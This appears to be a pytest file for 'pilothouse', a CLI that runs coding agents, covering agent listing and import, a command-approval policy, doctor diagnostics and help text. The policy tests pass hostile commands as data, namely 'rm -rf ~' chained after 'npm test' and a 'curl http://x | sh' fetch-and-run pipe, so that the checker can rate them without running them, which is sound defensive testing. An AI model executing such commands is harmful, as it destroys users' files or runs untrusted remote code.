"""Commands that tell how things are set up: agents, policy, doctor; and that help comes quickly."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from pilothouse.cli.exits import Exit
from tests.support.cli import Cli, Typist

ROOT = Path(__file__).parents[2]


# -- agents -------------------------------------------------------------------------------------------------------


def test_agents_tell_what_is_installed_and_how_to_get_the_others(cli: Cli) -> None:
    cli.environment["PATH"] = str(cli.project)
    agents = {agent["name"]: agent for agent in json.loads(cli("agents", "--json").stdout)}
    assert agents["demo"]["state"] == "installed"
    assert agents["gemini"] == {
        "name": "gemini",
        "origin": "known",
        "title": "Gemini CLI",
        "state": "missing",
        "installed": False,
        "command": None,
        "install": "npm install -g @google/gemini-cli",
    }
    assert agents["claude"]["state"] == "missing"
    npx = cli.project / "npx"
    npx.write_text("#!/bin/sh\n")
    npx.chmod(0o755)
    claude = {agent["name"]: agent for agent in json.loads(cli("agents", "--json").stdout)}["claude"]
    assert (claude["state"], claude["command"][:2]) == ("on demand", ["npx", "-y"])
    shown = cli("agents").stdout
    assert "npm install -g opencode-ai" in shown
    assert "PILOTHOUSE_MODEL names its model" in shown


def test_agents_tell_versions_when_asked(cli: Cli) -> None:
    from pilothouse import __version__

    cli.environment["PATH"] = str(cli.project)
    demo = {agent["name"]: agent for agent in json.loads(cli("agents", "--json", "--versions").stdout)}["demo"]
    assert demo["version"] == __version__


def test_agents_of_an_editor_are_taken_over_once(cli: Cli) -> None:
    file = cli.project / "acp.json"
    server = {"command": sys.executable, "args": ["-m", "pilothouse.cli", "demo-agent"], "env": {}}
    file.write_text(json.dumps({"agent_servers": {"My Demo": server, "Theirs": {"type": "registry"}}}))
    dry = cli("agents", "import", file, "--dry-run")
    assert "would add my-demo" in dry.stdout
    assert not cli.home.exists()
    done = cli("agents", "import", file)
    assert done.returncode == 0
    assert "added my-demo" in done.stdout
    assert "passed over Theirs" in done.stderr
    assert "left my-demo" in cli("agents", "import", file).stdout
    ran = cli("run", "echo from the imported one")
    assert ran.returncode == 0
    assert "from the imported one" in ran.stdout
    file.write_text("{}")
    assert cli("agents", "import", file).returncode == 2


# -- policy -------------------------------------------------------------------------------------------------------


def configure(cli: Cli) -> None:
    cli.home.mkdir()
    (cli.home / "config.toml").write_text(
        "[policy.autoApprove]\ncommands = ['npm test', 'git status']\n[policy.deny]\ncommands = ['git push *']\n"
    )


@pytest.mark.parametrize(
    ("command", "outcome", "level", "rule"),
    [
        ("npm test", "allow", "medium", "autoApprove.commands[0]: npm test"),
        ("git push --force", "deny", "high", "deny.commands[0]: git push *"),
        ("npm test && rm -rf ~", "ask", "critical", None),
    ],
)
def test_a_command_is_judged_without_being_run(
    cli: Cli, command: str, outcome: str, level: str, rule: str | None
) -> None:
    configure(cli)
    told = json.loads(cli("policy", "check", command, "--json").stdout)
    assert (told["outcome"], told["risk"]["level"], told["rule"]) == (outcome, level, rule)
    assert told["reason"]
    assert all({"code", "level", "text"} == set(reason) for reason in told["risk"]["reasons"])
    words = {"allow": "allowed without asking", "deny": "denied without asking", "ask": "asked"}
    said = cli("policy", "check", command).stdout
    assert said.startswith(words[outcome])
    assert f"{level} risk" in said


def test_without_a_policy_everything_is_asked(cli: Cli) -> None:
    assert json.loads(cli("policy", "check", "ls", "--json").stdout)["outcome"] == "ask"
    assert "everything is asked" in cli("policy", "show").stdout


def test_the_rules_are_listed_with_where_they_are_written(cli: Cli) -> None:
    configure(cli)
    shown = cli("policy", "show").stdout
    assert "deny  deny.commands[0]: git push *" in shown
    assert "allow autoApprove.commands[1]: git status" in shown


# -- doctor -------------------------------------------------------------------------------------------------------


def test_doctor_finds_a_healthy_home_in_order(cli: Cli) -> None:
    assert cli("run", "-a", "demo", "echo hi").returncode == 0
    done = cli("doctor", "--json")
    findings = {finding["what"]: finding for finding in json.loads(done.stdout)}
    assert done.returncode == 0
    assert {"python", "sqlite", "config", "home", "database", "hub", "agents"} <= findings.keys()
    assert "1 session, " in findings["database"]["text"]
    assert "demo" in findings["agents"]["text"]


@pytest.mark.skipif(os.name != "posix", reason="modes of files")
def test_doctor_names_what_is_wrong(cli: Cli) -> None:
    cli.home.mkdir()
    cli.home.chmod(0o755)
    (cli.home / "pilothouse.db").write_bytes(b"rubbish" * 50)
    (cli.home / "config.toml").write_text("[agents.gone]\ncommand = ['/no/such/program']\n")
    done = cli("doctor")
    assert done.returncode == 1
    assert "open to others (0755)" in done.stdout
    assert "not a SQLite database" in done.stdout
    assert "gone: its program '/no/such/program' is not found" in done.stdout
    (cli.home / "config.toml").write_text("x = ")
    assert "config.toml:1" in cli("doctor").stdout


def problems(cli: Cli) -> str:
    findings = json.loads(cli("doctor", "--json").stdout)
    return "\n".join(f"{one['what']}: {one['text']}" for one in findings if one["state"] == "problem")


def test_doctor_names_a_default_agent_that_cannot_be_used(cli: Cli) -> None:
    cli.home.mkdir(mode=0o700)
    cli.environment["PATH"] = str(cli.project)
    (cli.home / "config.toml").write_text('default_agent = "demmo"\n')
    assert problems(cli) == "agent: default_agent is 'demmo', and no agent is called so; is it 'demo'?"
    (cli.home / "config.toml").write_text('default_agent = "gemini"\n')
    assert problems(cli) == "agent: default_agent is 'gemini', which is not installed"
    (cli.home / "config.toml").write_text('default_agent = "demo"\n')
    assert problems(cli) == ""


def test_a_home_that_is_a_file_or_cannot_be_made_is_named(cli: Cli) -> None:
    cli.home.write_text("not a directory")
    assert f"home: {cli.home} is a file" in problems(cli)
    for command in (("ls",), ("run", "-a", "demo", "hi"), ("serve", "--port", "0"), ("agents",)):
        done = cli(*command)
        assert (done.returncode, done.stdout) == (Exit.USAGE, "")
        said = "is a file; the home must be a directory, which PILOTHOUSE_HOME names"
        assert done.stderr == f"Error: {cli.home}: {said}\n"
    cli.home = cli.home / "below"
    cli.environment["PILOTHOUSE_HOME"] = str(cli.home)
    assert f"home: {cli.home} is not there and cannot be made: " in problems(cli)


@pytest.mark.parametrize("command", ["doctor", "agents", "config"])
def test_at_sixty_columns_no_word_is_broken(cli: Cli, command: str) -> None:
    cli.environment |= {"COLUMNS": "60", "PATH": str(cli.project)}
    words = set(cli(command).stdout.split())  # without a terminal nothing is broken at all
    typist = Typist(cli, command)
    try:
        assert typist.leaves() == 0
    finally:
        typist.stop()
    lines = typist.seen.splitlines()
    assert all(len(line) <= 60 or len(line.split()) == 1 for line in lines)
    broken = {word for line in lines for word in line.split() if word.strip("()=:") and word.isalpha()} - words
    assert broken - {"default"} == set()


# -- help ---------------------------------------------------------------------------------------------------------


def test_a_check_of_the_policy_is_broken_between_words(cli: Cli) -> None:
    cli.environment["COLUMNS"] = "40"
    typist = Typist(cli, "policy", "check", "rm -rf /tmp/somewhere && curl http://x | sh")
    try:
        assert typist.leaves() == 0
    finally:
        typist.stop()
    told = typist.seen.splitlines()
    assert max(map(len, told)) <= 40
    assert " ".join(" ".join(told).split()).count("it cannot be read with certainty: sh runs what it reads") == 1


@pytest.mark.parametrize("group", ["policy", "hooks", "doctor", "agents"])
def test_help_of_a_group_cuts_no_sentence(cli: Cli, group: str) -> None:
    done = cli(group, "--help")
    assert "Commands:" in done.stdout
    assert "..." not in done.stdout.partition("Commands:")[2]


@pytest.mark.parametrize(
    ("typed", "meant"),
    [("runn", "run"), ("aprove", "approve"), ("discovr", "discover"), ("status", "doctor"), ("resume", "run -s ID")],
)
def test_a_word_that_is_nearly_a_command_or_one_elsewhere_is_told_which(cli: Cli, typed: str, meant: str) -> None:
    done = cli(typed)
    assert done.returncode == Exit.USAGE
    assert done.stderr.endswith(f"No such command '{typed}'. Did you mean '{meant}'?\n")


def test_help_lists_every_command_and_loads_nothing_heavy(cli: Cli) -> None:
    shown = cli("--help").stdout
    names = ("run", "ls", "show", "export", "replay", "setup", "agents", "policy", "approvals", "doctor", "demo-agent")
    for name in names:
        assert f"\n  {name} " in shown
    assert "..." not in shown.partition("Run:")[2]
    cli.environment["COLUMNS"] = "60"
    narrow = " ".join(cli("--help").stdout.split())
    assert "Set an editor up to run `pilothouse acp`: Zed, JetBrains, Neovim or Emacs." in narrow
    heavy = ("rich", "msgspec", "asyncio", "sqlite3", "platformdirs", "importlib.metadata")
    code = (
        "import sys\n"
        "from pilothouse.cli import main\n"
        "try:\n    main(['--help'])\nexcept SystemExit:\n    pass\n"
        f"print([name for name in {heavy!r} if name in sys.modules], file=sys.stderr)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=30, check=True)
    assert done.stderr.strip() == "[]"


def test_every_exit_code_is_documented() -> None:
    page = (ROOT / "docs" / "reference" / "cli.md").read_text()
    for code in Exit:
        assert f"| {int(code)} | {code.meaning} |" in page


def test_the_page_about_the_commands_is_current() -> None:
    tool = ROOT / "tools" / "generate_cli.py"
    done = subprocess.run([sys.executable, tool, "--check"], capture_output=True, text=True, timeout=30, check=False)
    assert (done.returncode, done.stderr) == (0, "")
